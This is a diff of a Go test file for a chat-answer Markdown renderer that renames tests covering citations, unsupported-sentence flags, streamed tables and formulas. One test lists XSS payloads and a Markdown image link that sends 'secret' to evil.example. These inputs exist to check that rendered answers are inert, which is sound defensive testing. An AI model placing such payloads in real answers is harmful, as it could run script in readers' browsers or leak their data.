@@ -64,7 +64,7 @@ func harm(t *testing.T, doc string) []string {
 	return found
 }
 
-func TestHostileAnswersDoNothing(t *testing.T) {
+func TestHostileAnswersAreInert(t *testing.T) {
 	for _, src := range []string{
 		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `![secret words](https://evil.example/?q=secret)`,
 		`[click](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x)`,
@@ -88,7 +88,7 @@ func TestHostileAnswersDoNothing(t *testing.T) {
 	}
 }
 
-func TestMarkdownOfAnswers(t *testing.T) {
+func TestAnswerMarkdown(t *testing.T) {
 	for _, tt := range []struct{ name, src, want string }{
 		{"a number becomes a chip that sticks to its word", "Sound [1].",
 			`Sound` + "\u2060" + `<a class="cite" href="/d/d1?c=run.1#cited"`},
@@ -122,7 +122,7 @@ func TestMarkdownOfAnswers(t *testing.T) {
 	}
 }
 
-func TestTheCitationsOfUnsupportedSentencesAreDoubted(t *testing.T) {
+func TestCitationsOfUnsupportedSentencesAreDoubted(t *testing.T) {
 	got := Doubted("The roof leaks [1]. Two is here [2] and there.[3] Three [4].",
 		[]string{"Two is here and there.", "Not there."})
 	if len(got) != 2 || !got[2] || !got[3] {
@@ -130,7 +130,7 @@ func TestTheCitationsOfUnsupportedSentencesAreDoubted(t *testing.T) {
 	}
 }
 
-func TestOnlyAMarkInRunningTextIsAFootnote(t *testing.T) {
+func TestOnlyMarkerInProseIsFootnote(t *testing.T) {
 	for src, want := range map[string]int{
 		"It leaks [1], says the survey[2].": 2, "See https://x.org/a[2] [1].": 1, "[a](http://x.org/[2]) [1]": 1,
 		`[a](http://x.org "b [2]") [1]`: 1,
@@ -179,7 +179,7 @@ func TestUnsupportedSentencesAreMarked(t *testing.T) {
 	}
 }
 
-func TestATableIsShownWhenItIsOne(t *testing.T) {
+func TestStreamedTableAppearsAfterDelimiterRow(t *testing.T) {
 	m := NewMarkdown()
 	for _, tt := range []struct{ src, want string }{
 		{"Before.\n\n| Work | Pr", ""},
@@ -197,7 +197,7 @@ func TestATableIsShownWhenItIsOne(t *testing.T) {
 }
 
 // The final blocks are the same for every split of an answer into deltas.
-func TestStreamedBlocksAreThoseOfTheWhole(t *testing.T) {
+func TestStreamedBlocksEqualWholeBlocks(t *testing.T) {
 	src := "First paragraph with [1] and **bold** words.\n\n## Heading\n\n- one\n- two [2]\n\n  still two\n- " +
 		"three\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n" +
 		"```go\nfunc main() {\n\n}\n```\n\n> quoted\n> more\n\n1. first\n2. second\n\nLast words."
@@ -220,7 +220,7 @@ func TestStreamedBlocksAreThoseOfTheWhole(t *testing.T) {
 	}
 }
 
-func BenchmarkADelta(b *testing.B) {
+func BenchmarkDelta(b *testing.B) {
 	m := NewMarkdown()
 	src := strings.Repeat("The roof is sound and the wall is dry. ", 8) + "[1] More words follow"
 	for b.Loop() {
@@ -228,7 +228,7 @@ func BenchmarkADelta(b *testing.B) {
 	}
 }
 
-func TestASourceWhoseSentenceIsNotSupportedSaysSo(t *testing.T) {
+func TestSourceOfUnsupportedSentenceIsMarked(t *testing.T) {
 	c := chat.Citation{Number: 1, Title: "Slate", Quote: "Slate is a rock.", Check: chat.CheckVerified}
 	for _, unsupported := range [][]string{nil, {"Pigs fly."}} {
 		final := chat.Answer{Markdown: "Pigs fly [1].", Citations: []chat.Citation{c}, Unsupported: unsupported}
@@ -243,7 +243,7 @@ func TestASourceWhoseSentenceIsNotSupportedSaysSo(t *testing.T) {
 	}
 }
 
-func TestNotesOnAnAnswerStandUnderIt(t *testing.T) {
+func TestAnswerNotesAreShownBelow(t *testing.T) {
 	many := slices.Repeat([]string{"“2 + 3 = 6” is wrong: it is 5. <b>"}, maxAnswerNotes+2)
 	for _, tt := range []struct {
 		notes []string
@@ -274,7 +274,7 @@ func tex(source string) string { return `<code class="tex">` + source + `</code>
 // line returns the element of a formula on a line of its own.
 func line(source string) string { return `<code class="tex tex-line">` + source + `</code>` }
 
-func TestFormulasOfAnswers(t *testing.T) {
+func TestAnswerFormulas(t *testing.T) {
 	for _, tt := range []struct {
 		name, src string
 		want      []string
@@ -317,7 +317,7 @@ func TestFormulasOfAnswers(t *testing.T) {
 	}
 }
 
-func TestASentenceWithAFormulaIsMarkedAsOne(t *testing.T) {
+func TestUnsupportedSentenceWithFormulaIsMarked(t *testing.T) {
 	got := whole(t, `One. Two is $x_1$ here. Three.`, `Two is $x_1$ here.`)
 	want := `One. <span class="unsupported">Two is ` + tex("$x_1$") + ` here.</span><span class="flag">`
 	if !strings.Contains(got, want) {
@@ -333,7 +333,7 @@ const scientific = "The optimum is \\( p^* = \\frac{a}{b} \\) [1], so $x_1 < 5$.
 
 // While an answer is streamed, no part of a formula is shown, neither commands nor delimiters. A formula that was
 // shown stays a formula.
-func TestNoHalfFormulaIsShown(t *testing.T) {
+func TestPartialFormulaIsNotShown(t *testing.T) {
 	m := NewMarkdown()
 	half := regexp.MustCompile(`frac|begin|alpha|_1|[\\^]|\(\s*(p|f)\b`)
 	whole := regexp.MustCompile(`(?s)<code class="tex.*?</code>|<[^>]*>`)
@@ -364,7 +364,7 @@ func TestNoHalfFormulaIsShown(t *testing.T) {
 	}
 }
 
-func TestStreamedFormulasAreThoseOfTheWhole(t *testing.T) {
+func TestStreamedFormulasEqualWhole(t *testing.T) {
 	m := NewMarkdown()
 	want := m.Whole(scientific, nil, citeOne)
 	for size := 1; size <= 40; size++ {
@@ -379,7 +379,7 @@ func TestStreamedFormulasAreThoseOfTheWhole(t *testing.T) {
 }
 
 // An amount of money that could open a formula is shown as soon as a word follows.
-func TestMoneyIsNotHeldBack(t *testing.T) {
+func TestAmountIsNotHeldBack(t *testing.T) {
 	m := NewMarkdown()
 	for _, src := range []string{"It costs $5 per", "It costs $1,000 a day.", "It costs US$ 5", "5$ or 6$ a"} {
 		drawn, _ := m.drawTail(src, 1, maxNodes, true, citeOne)
@@ -389,7 +389,7 @@ func TestMoneyIsNotHeldBack(t *testing.T) {
 	}
 }
 
-func FuzzMathInAnswers(f *testing.F) {
+func FuzzAnswerFormulas(f *testing.F) {
 	m := NewMarkdown()
 	for _, s := range []string{
 		scientific, `\(`, `\[`, "$$", "$x$1", "> \\[\n> a\n", "- \\[\n  a\n  \\]\n",
@@ -418,7 +418,7 @@ func FuzzMathInAnswers(f *testing.F) {
 	})
 }
 
-func BenchmarkAnAnswerWithFormulas(b *testing.B) {
+func BenchmarkAnswerWithFormulas(b *testing.B) {
 	m := NewMarkdown()
 	for _, n := range []int{0, 1, 10} {
 		formulas := strings.Repeat(` \( x = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a} \),`, n)
